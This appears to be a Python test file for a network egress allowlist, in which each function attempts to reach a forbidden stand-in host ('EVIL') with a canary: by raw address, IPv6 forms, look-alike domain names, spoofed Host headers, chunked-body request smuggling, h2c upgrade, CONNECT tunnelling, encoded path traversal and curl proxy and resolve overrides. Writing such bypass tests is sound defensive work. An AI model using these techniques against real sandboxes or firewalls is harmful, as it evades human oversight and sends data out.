"""By address, in cleartext HTTP, and past a name that is allowed."""

import subprocess

from tries import *


@attempt
def address_not_allowed():
    return http(EVIL, name=EVIL_NAME)


@attempt
def address_of_an_allowed_name_without_a_name():
    return exchange(connect(WEB, 5432), CANARY.encode())


@attempt
def address_other_port():
    return exchange(connect(EVIL, 4444), CANARY.encode())


@attempt
def address_six():
    return http("2a0f:10::81", name=EVIL_NAME)


@attempt
def address_mapped():
    return http("::ffff:44.10.0.81", name=EVIL_NAME)


@attempt
def name_not_allowed():
    return http(EVIL_NAME)


@attempt
def name_over_tls():
    return tls("tls." + EVIL_NAME, name=EVIL_NAME)


@attempt
def parent_of_a_wildcard():
    return http("wild.example.org")


@attempt
def name_that_ends_like_an_allowed_one():
    return http("evilweb.example.org")


@attempt
def name_below_an_allowed_one():
    return http("sub.web.example.org")


@attempt
def allowed_name_as_a_prefix():
    return http("web.example.org.example.net")


@attempt
def blocked_below_a_wildcard():
    return http("blocked.wild.example.org")


@attempt
def blocked_in_capitals_with_a_dot():
    return http("Sub.BLOCKED.Wild.Example.ORG.")


@attempt
def other_port_of_an_allowed_name():
    return http("port.wild.example.org", 8080)


@attempt
def host_header_of_another():
    return exchange(connect(WEB_NAME, 80), get(EVIL_NAME))


@attempt
def host_header_on_the_address():
    return exchange(connect(WEB, 80), get(EVIL_NAME))


@attempt
def second_request_to_another_host():
    data = exchange(connect(WEB_NAME, 80), get(WEB_NAME).replace(CANARY.encode(), b"") + get(EVIL_NAME), 65536)
    return data if data.count(b"HTTP/1.1 200") > 1 else None


@attempt
def two_hosts():
    return exchange(connect(WEB_NAME, 80), get(WEB_NAME, more=f"Host: {EVIL_NAME}\r\n"))


@attempt
def absolute_form_of_another():
    return exchange(connect(WEB_NAME, 80), get(WEB_NAME, f"http://{EVIL_NAME}/"))


@attempt
def connect_through_an_allowed_server():
    return exchange(connect(WEB_NAME, 80), f"CONNECT {EVIL_NAME}:443 HTTP/1.1\r\nHost: {WEB_NAME}\r\n\r\n".encode())


@attempt
def http2_in_cleartext():
    return exchange(connect(WEB_NAME, 80), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))


@attempt
def upgrade_to_http2():
    data = exchange(connect(WEB_NAME, 80), get(EVIL_NAME, more="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                                                               "HTTP2-Settings: AAMAAABk\r\n"))
    return data


@attempt
def hidden_by_a_chunked_body():
    """What one reader takes for a body, the other for a request."""
    smuggled = get(EVIL_NAME)
    head = f"POST / HTTP/1.1\r\nHost: {WEB_NAME}\r\nContent-Length: {len(smuggled) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n"
    return exchange(connect(WEB_NAME, 80), head.encode() + b"0\r\n\r\n" + smuggled, 65536)


@attempt
def hidden_by_bare_line_feeds():
    return exchange(connect(WEB_NAME, 80), get(WEB_NAME).replace(b"\r\n", b"\n") + get(EVIL_NAME), 65536)


@attempt
def folded_host():
    return exchange(connect(WEB_NAME, 80), f"GET /{CANARY} HTTP/1.1\r\nHost:\r\n {EVIL_NAME}\r\n\r\n".encode())


@attempt
def no_host():
    return exchange(connect(WEB, 80), f"GET /{CANARY} HTTP/1.0\r\n\r\n".encode())


@attempt
def method_not_allowed():
    return exchange(connect("api.example.org", 80), f"POST /ok/x?{CANARY} HTTP/1.1\r\nHost: api.example.org\r\nContent-Length: "
                    f"0\r\n\r\n".encode()).startswith(b"HTTP/1.1 200")


@attempt
def path_not_allowed():
    return http_ok("/other/x")


@attempt
def path_with_dots():
    return http_ok("/ok/../other/x")


@attempt
def path_with_escaped_dots():
    return http_ok("/ok/%2e%2e/other/x")


@attempt
def path_with_an_escaped_slash():
    return http_ok("/ok/..%2fother/x")


@attempt
def tls_where_only_paths_are_allowed():
    return tls("api.example.org", name="api.example.org")


def http_ok(path):
    made = connect("api.example.org", 80)
    return exchange(made, get("api.example.org", path)).startswith(b"HTTP/1.1 200")


def curl(*words):
    done = subprocess.run(["curl", "-sS", "-k", "-m", "8", *words], capture_output=True, check=False)
    if done.returncode:
        raise OSError(done.stderr.decode())
    if b'"to":' not in done.stdout:
        raise OSError(done.stdout.decode())
    return done.stdout


@attempt
def redirect_to_another():
    return curl("-L", f"http://{WEB_NAME}/redirect?http://{EVIL_NAME}/{CANARY}")


@attempt
def connect_to():
    return curl("--connect-to", f"::{EVIL}:443", f"https://{EVIL_NAME}/{CANARY}")


@attempt
def resolved_by_hand():
    return curl("--resolve", f"{EVIL_NAME}:443:{WEB}", f"https://{EVIL_NAME}/{CANARY}")


@attempt
def without_any_proxy():
    return curl("--noproxy", "*", f"http://{EVIL_NAME}/{CANARY}")


@attempt
def fast_open():
    with socket.socket() as made:
        made.settimeout(PATIENCE)
        made.sendto(get(EVIL_NAME), 0x20000000, (EVIL, 80))
        return not_refused(made.recv(4096))


@attempt
def urgent_byte():
    with connect(EVIL, 80) as made:
        made.send(b"G", socket.MSG_OOB)
        made.sendall(get(EVIL_NAME))
        return not_refused(made.recv(4096))


@attempt
def address_that_no_name_has():
    return http("198.18.200.200", name=EVIL_NAME)


@attempt
def other_port_of_the_gateway():
    return exchange(connect(GATEWAY, 9999), CANARY.encode())


@attempt
def gateway_of_other_programs():
    return http("10.0.2.2", name=EVIL_NAME)


main()
